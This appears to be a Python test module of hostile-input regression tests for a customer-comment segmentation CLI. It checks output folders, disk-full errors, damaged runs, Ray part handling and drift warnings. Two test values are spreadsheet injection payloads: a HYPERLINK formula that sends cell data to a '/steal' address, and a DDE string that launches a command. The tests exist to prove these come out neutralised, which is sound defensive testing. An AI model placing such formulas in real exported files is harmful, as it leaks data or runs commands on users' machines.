"""Hostile input, round three (issue 18): what the product writes, and the runs and parts it reads back.

Cases 4 (formulas in CSV on stdout), 6 (output folders), 10 (the Ray engine's parts), 11 (``assign``), 12
(drift) and the CLI's internal errors of the round (disk full on ``--out``, Ray failing to start, ``assign``
of many users). The command line runs as users run it, in a subprocess; runs are made by the real pipeline
with the OpenAI-style stub encoder on 127.0.0.1.
"""

from __future__ import annotations

import contextlib
import errno
import io
import json
import shutil
import subprocess
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from fixtures import labelled_comments
from openai_stub_server import StubServer

from segmentation.core.errors import DataError
from segmentation.ingest.io import from_frame
from segmentation.pipeline.config import SegmentConfig
from segmentation.runs import service
from segmentation.runs.assign import assign
from segmentation.runs.workspace import Workspace
from segmentation.scale import read
from tests.test_cli import assert_one_line_error, run_cli

pytestmark = pytest.mark.hostile

STUB_MODEL = "stub-embed"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Coffee fans")'


# A run made by the real pipeline, once per module; each test gets its own copy of the workspace --------


@pytest.fixture(scope="module")
def stub_url():
    with StubServer() as server, pytest.MonkeyPatch.context() as patch:
        patch.setenv("SEGMENT_STUDIO_OPENAI_BASE_URL", server.base_url)
        yield server.base_url


@pytest.fixture(scope="module")
def made_run(stub_url, tmp_path_factory):
    """80 users in four groups, five comments each, segmented with the stub encoder into k=4."""
    home = tmp_path_factory.mktemp("made-run") / "workspace"
    frame = labelled_comments(users_per_group=20, comments_per_user=5, seed=0)
    config = SegmentConfig(encoder=f"openai:{STUB_MODEL}", algorithm="kmeans", k=4)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SEGMENT_STUDIO_HOME", str(home))
        run = service.run_and_save(from_frame(frame.drop(columns="true_group"), source="labelled.csv"), config)
    return {"home": home, "key": run.run_key, "frame": frame}


@pytest.fixture
def saved(made_run, workspace: Path, stub_url) -> str:
    """This test's workspace: a copy of the module's, holding the made run; returns the run's key."""
    shutil.copytree(made_run["home"], workspace)
    return made_run["key"]


def comments_file(tmp_path: Path, frame: pd.DataFrame, name: str = "new.csv") -> Path:
    path = tmp_path / name
    frame.to_csv(path, index=False)
    return path


# Case 4: a formula in a saved name ------------------------------------------------------------------


def test_runs_compare_prints_a_formula_name_neutralised_on_stdout(workspace: Path):
    """issue 18, case 4: a saved name =HYPERLINK(...) came out live in `runs compare A B` on stdout."""
    store = Workspace(workspace / "workspace.sqlite")
    users = [f"u{i}" for i in range(6)]
    store.save_run("first", "f" * 64, {"k": 2}, {u: i % 2 for i, u in enumerate(users)})
    store.save_run("second", "f" * 64, {"k": 1}, dict.fromkeys(users, 0))
    store.save_name("first", 1, FORMULA)
    store.save_name("second", 0, "+cmd|' /C calc'!A0")

    proc = run_cli("runs", "compare", "first", "second", workspace=workspace)

    assert proc.returncode == 0, proc.stderr
    flows = pd.read_csv(io.StringIO(proc.stdout), dtype=str)
    assert set(flows["first_name"]) == {"'" + FORMULA, "Segment 0"}
    assert set(flows["second_name"]) == {"'+cmd|' /C calc'!A0"}
    cells = [cell for line in proc.stdout.splitlines() for cell in line.split(",")]
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "@"))]


# Case 6: output folders -----------------------------------------------------------------------------


def test_segment_refuses_an_out_folder_holding_the_users_files_and_keeps_them(tmp_path, workspace):
    """issue 18, case 6: a run replaces its folder whole, so a folder of the user's own files is refused."""
    data = comments_file(tmp_path, labelled_comments(users_per_group=5), "data.csv")
    out = tmp_path / "reports"
    (out / "assignments").mkdir(parents=True)
    (out / "assignments" / "q3.xlsx").write_bytes(b"the user's own work")
    (out / "notes.txt").write_text("mine", encoding="utf-8")

    proc = run_cli("segment", str(data), "--out", str(out), "--encoder", "tfidf", "--k", "2", workspace=workspace)

    assert_one_line_error(proc, f"--out {out} holds files that are not a previous run's outputs", "notes.txt")
    assert (out / "assignments" / "q3.xlsx").read_bytes() == b"the user's own work"
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data.csv", "reports"]  # no staging left behind


def test_ray_segment_never_deletes_the_users_assignments_and_work_folders(tmp_path, workspace):
    """issue 18, case 6: `segment --engine ray --out DIR` deleted the user's `assignments/` and `_work/`
    folders and exited 0."""
    pytest.importorskip("ray", reason="the Ray engine needs ray (pip install -r requirements-ray.txt)")
    data = comments_file(tmp_path, labelled_comments(users_per_group=5), "data.csv")
    out = tmp_path / "team"
    for folder, name in (("assignments", "by-hand.csv"), ("_work", "draft.txt")):
        (out / folder).mkdir(parents=True)
        (out / folder / name).write_text("kept", encoding="utf-8")

    proc = run_cli("segment", str(data), "--out", str(out), "--engine", "ray", "--encoder", "fast",
                   "--map-sample", "0", workspace=workspace)

    assert_one_line_error(proc, "holds files that are not a previous run's outputs")
    assert (out / "assignments" / "by-hand.csv").read_text(encoding="utf-8") == "kept"
    assert (out / "_work" / "draft.txt").read_text(encoding="utf-8") == "kept"


@contextlib.contextmanager
def small_disk(folder: Path, size: str = "1m"):
    """A real file system of ``size`` at ``folder`` (tmpfs; needs root), unmounted afterwards."""
    folder.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
                             capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here ({mounted.stderr.strip() or mounted.returncode})")
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=True)


def fill(disk: Path) -> None:
    """Write into ``disk`` until the device is full."""
    with open(disk / "filler", "wb", buffering=0) as handle:  # unbuffered: nothing left to flush on close
        try:
            while True:
                handle.write(b"\0" * 4096)
        except OSError as error:
            assert error.errno == errno.ENOSPC


@pytest.mark.slow  # two runs of the CLI, each fitting UMAP for the map in a subprocess
def test_a_rerun_on_a_full_disk_exits_2_and_leaves_the_earlier_run_complete(tmp_path, workspace):
    """issue 18, case 6 and internal errors: a re-run that failed half-way (disk full on --out) destroyed the
    complete earlier run in the same folder, which then no longer opened; now one line, exit 2, and the
    earlier run is there byte for byte."""
    data = comments_file(tmp_path, labelled_comments(users_per_group=15), "data.csv")
    with small_disk(tmp_path / "disk") as disk:
        out = disk / "run"
        first = run_cli("segment", str(data), "--out", str(out), "--encoder", "tfidf", "--k", "4",
                        workspace=workspace)
        assert first.returncode == 0, first.stderr
        before = {p.name: p.read_bytes() for p in out.iterdir()}
        assert set(before) == {"assignments.csv", "segments.json", "run.json"}
        fill(disk)

        second = run_cli("segment", str(data), "--out", str(out), "--encoder", "tfidf", "--k", "3",
                         workspace=workspace)

        assert second.returncode == 2, second.stderr
        last = second.stderr.strip().splitlines()[-1]  # progress lines come first, then the one error line
        assert last.startswith("error: no space left on the device while writing --out"), second.stderr
        assert "Traceback" not in second.stderr
        assert {p.name: p.read_bytes() for p in out.iterdir()} == before
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "run"]  # the staging folder is gone
        assert len(pd.read_csv(out / "assignments.csv")) == 60


# Case 10: the Ray engine's parts --------------------------------------------------------------------


def parquet_parts(folder: Path, n_parts: int = 2) -> pd.DataFrame:
    folder.mkdir()
    frame = labelled_comments(users_per_group=5)
    for i, rows in enumerate(np.array_split(np.arange(len(frame)), n_parts)):
        frame.iloc[rows].to_parquet(folder / f"part-{i}.parquet", index=False)
    return frame


def test_a_readme_beside_parquet_parts_is_skipped_and_said_so(tmp_path):
    """issue 18, case 10: the Ray engine read a README.txt in the parts folder as data (2,421 "users"
    instead of 500). Text beside parts of a table format is documentation: skipped, and the run says so."""
    parquet_parts(tmp_path / "parts")
    (tmp_path / "parts" / "README.txt").write_text("Exported on Monday.\nOne line per thought.\n" * 50)

    parts, skipped = read.resolve_parts(tmp_path / "parts")

    assert [p.name for p in parts] == ["part-0.parquet", "part-1.parquet"]
    assert [p.name for p in skipped] == ["README.txt"]
    assert read.skipped_note(skipped, parts) == (
        "skipped 1 text file (README.txt) beside the 2 .parquet parts: documentation, not comments")


def test_a_folder_of_text_parts_only_is_still_read_as_comments(tmp_path):
    """issue 18, case 10: plain text stays a data format where every part is one."""
    (tmp_path / "parts").mkdir()
    for i in range(2):
        (tmp_path / "parts" / f"day-{i}.txt").write_text("great coffee\nslow delivery\n", encoding="utf-8")
    parts, skipped = read.resolve_parts(tmp_path / "parts")
    assert [p.name for p in parts] == ["day-0.txt", "day-1.txt"] and skipped == []


def test_parts_of_two_table_formats_are_refused_with_one_line(tmp_path, workspace):
    """issue 18, case 10: which of two table formats holds the data is not ours to guess."""
    frame = parquet_parts(tmp_path / "parts")
    frame.to_csv(tmp_path / "parts" / "old-export.csv", index=False)
    with pytest.raises(DataError, match=r"mixes part formats \(1 \.csv, 2 \.parquet\)"):
        read.resolve_parts(tmp_path / "parts")
    pytest.importorskip("ray", reason="the Ray engine needs ray (pip install -r requirements-ray.txt)")
    proc = run_cli("segment", str(tmp_path / "parts"), "--engine", "ray", "--encoder", "fast",
                   "--out", str(tmp_path / "out"), workspace=workspace)
    assert_one_line_error(proc, "mixes part formats (1 .csv, 2 .parquet)")


@pytest.mark.slow  # two Ray runs in subprocesses, with the fast encoder distilled once (conftest.fast_home)
def test_a_ray_run_skips_a_readme_and_a_full_disk_leaves_its_earlier_run_opening(tmp_path, fast_home, monkeypatch):
    """issue 18, case 10: a README.txt among the parts was read as comments; case 6 and internal errors:
    disk full on a Ray run's --out was an internal error and left the earlier run damaged."""
    pytest.importorskip("ray", reason="the Ray engine needs ray (pip install -r requirements-ray.txt)")
    from segmentation.core.paths import ALLOWED_ROOTS_ENV
    from segmentation.scale.run_folder import open_run_folder

    monkeypatch.setenv(ALLOWED_ROOTS_ENV, str(tmp_path))  # the run folders are opened as the app opens them
    frame = parquet_parts(tmp_path / "parts")
    (tmp_path / "parts" / "README.txt").write_text("Exported on Monday.\nOne line per thought.\n" * 50)
    ray_segment = ["segment", str(tmp_path / "parts"), "--engine", "ray", "--encoder", "fast", "--map-sample", "0"]
    with small_disk(tmp_path / "disk", size="8m") as disk:
        out = disk / "run"
        first = run_cli(*ray_segment, "--k", "2", "--out", str(out), workspace=fast_home)
        assert first.returncode == 0, first.stderr
        record = json.loads((out / "run.json").read_text(encoding="utf-8"))
        assert record["n_users"] == frame["user_id"].nunique() == 20 and record["n_parts"] == 2
        assert any(note.startswith("skipped 1 text file (README.txt)") for note in record["notes"])
        before = {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}
        fill(disk)

        second = run_cli(*ray_segment, "--k", "3", "--out", str(out), workspace=fast_home)

        assert second.returncode == 2, second.stderr
        last = second.stderr.strip().splitlines()[-1]  # stage lines come first, then the one error line
        assert last.startswith("error: no space left on the device while writing --out"), second.stderr
        assert "Traceback" not in second.stderr
        assert {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()} == before
        assert open_run_folder(out).n_users == 20
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "run"]


# Ray failing to start ----------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["--address", "RAY_ADDRESS"])
def test_ray_failing_to_start_exits_2_with_one_line(tmp_path, workspace, monkeypatch, how):
    """issue 18, internal errors: Ray failing to start was an internal error (or waited for minutes)."""
    pytest.importorskip("ray", reason="the Ray engine needs ray (pip install -r requirements-ray.txt)")
    data = comments_file(tmp_path, labelled_comments(users_per_group=5), "data.csv")
    address = "127.0.0.1:1"  # loopback, a port nothing listens on
    extra = ["--address", address] if how == "--address" else []
    if how == "RAY_ADDRESS":
        monkeypatch.setenv("RAY_ADDRESS", address)
    proc = run_cli("segment", str(data), "--engine", "ray", "--encoder", "fast", "--out", str(tmp_path / "out"),
                   *extra, workspace=workspace)
    assert_one_line_error(proc, "Ray did not start: nothing answers at 127.0.0.1:1")
    assert list((tmp_path / "out").glob("*")) == []  # nothing written (the CLI's check may leave it empty)


# Case 11: assign -------------------------------------------------------------------------------------


def test_assign_refuses_a_file_without_a_user_column(saved, tmp_path, workspace):
    """issue 18, case 11: row numbers were matched to the run's unrelated row-number users."""
    texts = labelled_comments(users_per_group=2, seed=3)[["text"]]
    proc = run_cli("assign", str(comments_file(tmp_path, texts)), "--run", saved, "--out", str(tmp_path / "out"),
                   workspace=workspace)
    assert_one_line_error(proc, "new.csv has no user column", "(--user-col NAME)")
    assert not (tmp_path / "out" / "assignments.csv").exists()


@pytest.mark.parametrize(
    ("damage", "message"),
    [("nan", "its saved segment centres are damaged (not finite"),
     ("inf", "its saved segment centres are damaged (not finite"),
     ("garbage", ".npz is unreadable")],
)
def test_assign_refuses_a_run_whose_centres_are_not_finite_or_unreadable(saved, tmp_path, workspace, damage,
                                                                         message):
    """issue 18, case 11: tampered centres (NaN) gave NaN placements written as fine; internal errors:
    garbage .npz in a run."""
    path = workspace / "runs" / f"{saved}.npz"
    if damage == "garbage":
        path.write_bytes(b"PK\x03\x04 not a zip archive at all")
    else:
        with np.load(path) as stored:
            arrays = {name: stored[name] for name in stored.files}
        arrays["centres"][1, 3] = float(damage)
        np.savez(path, **arrays)
    new = labelled_comments(users_per_group=2, seed=3).assign(user_id=lambda t: "new-" + t["user_id"])

    proc = run_cli("assign", str(comments_file(tmp_path, new)), "--run", saved, "--out", str(tmp_path / "out"),
                   workspace=workspace)

    assert_one_line_error(proc, f"run {saved} is damaged (", message)
    assert not (tmp_path / "out" / "assignments.csv").exists()


def test_assign_on_a_full_disk_exits_2_and_keeps_the_earlier_assignments(saved, tmp_path, workspace):
    """issue 18, internal errors: disk full on `assign --out` was an internal error."""
    new = labelled_comments(users_per_group=2, seed=3).assign(user_id=lambda t: "new-" + t["user_id"])
    data = comments_file(tmp_path, new)
    with small_disk(tmp_path / "disk") as disk:
        first = run_cli("assign", str(data), "--run", saved, "--out", str(disk / "out"), workspace=workspace)
        assert first.returncode == 0, first.stderr
        before = {p.name: p.read_bytes() for p in (disk / "out").iterdir()}
        fill(disk)
        second = run_cli("assign", str(data), "--run", saved, "--out", str(disk / "out"), workspace=workspace)
        assert second.returncode == 2, second.stderr
        last = second.stderr.strip().splitlines()[-1]
        assert last.startswith("error: no space left on the device while writing --out"), second.stderr
        assert {p.name: p.read_bytes() for p in (disk / "out").iterdir()} == before


def test_a_run_whose_table_was_deleted_is_damaged_for_runs_show_and_assign(saved, tmp_path, workspace):
    """issue 18, case 11: a deleted run Parquet gave `runs show` with zero segments and an answering assign."""
    (workspace / "runs" / f"{saved}.parquet").unlink()
    new = labelled_comments(users_per_group=2, seed=3)

    shown = run_cli("runs", "show", saved, workspace=workspace)
    placed = run_cli("assign", str(comments_file(tmp_path, new)), "--run", saved, "--out", str(tmp_path / "out"),
                     workspace=workspace)

    for proc in (shown, placed):
        assert_one_line_error(proc, f"run {saved} is damaged (its assignments table is missing")
    assert shown.stdout == ""


def test_assign_streams_users_in_chunks_with_the_same_placements_and_less_memory(saved, made_run):
    """issue 18, case 11 / internal errors: `assign` of 1M new users hit MemoryError allocating float64
    profiles at once; it now works through chunks of users, with the same answer."""
    rng = np.random.default_rng(1)
    texts = made_run["frame"]["text"].to_numpy()  # all in the embedding cache: the test measures placing
    n = 12_000
    new = pd.DataFrame({"user_id": [f"n{i:05d}" for i in range(n)] * 2, "text": rng.choice(texts, 2 * n)})
    comments = from_frame(new, source="many.csv")

    def placed(chunk_users: int) -> tuple[pd.DataFrame, int]:
        tracemalloc.start()
        try:
            table = assign(comments, saved, chunk_users=chunk_users).assignments
            return table, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    whole, peak_whole = placed(n)
    chunked, peak_chunked = placed(500)

    pd.testing.assert_frame_equal(chunked, whole)
    assert peak_chunked < 0.3 * peak_whole, (peak_chunked, peak_whole)


# Case 12: drift --------------------------------------------------------------------------------------


def one_comment_each(frame: pd.DataFrame, seed: int) -> pd.DataFrame:
    picked = frame.groupby("user_id", group_keys=False).sample(n=1, random_state=seed)
    return picked.assign(user_id=lambda t: "again-" + t["user_id"]).drop(columns="true_group")


@pytest.mark.parametrize("seed", [0, 1, 2])
def test_the_same_kind_of_users_with_one_comment_each_raise_no_drift_warning(saved, made_run, seed):
    """issue 18, case 12: drift warnings fired on every segment when the same users came back with fewer
    comments (a one-comment profile lies farther from the centre than a five-comment one)."""
    placed = assign(from_frame(one_comment_each(made_run["frame"], seed)), saved)
    assert len(placed.assignments) == 80 and set(placed.assignments["status"]) == {"new"}
    assert not placed.warnings, placed.drift
    assert not placed.drift["drifting"].any()


def test_genuinely_foreign_users_with_one_comment_each_raise_a_drift_warning(saved):
    """issue 18, case 12: the far line per number of comments still catches users unlike any member."""
    words = ["quantum", "annealing", "lattice", "decoherence", "spintronics", "cryostat", "qubit",
             "entanglement", "photon", "boson", "fermion", "superconducting"]
    rng = np.random.default_rng(0)
    strangers = pd.DataFrame({"user_id": [f"x{i}" for i in range(12)],
                              "text": [" ".join(rng.choice(words, 5)) for _ in range(12)]})
    placed = assign(from_frame(strangers), saved)
    assert placed.assignments["far"].mean() >= 0.5  # members with one comment: 5 % by construction
    assert placed.warnings and all("drifting" in warning for warning in placed.warnings)
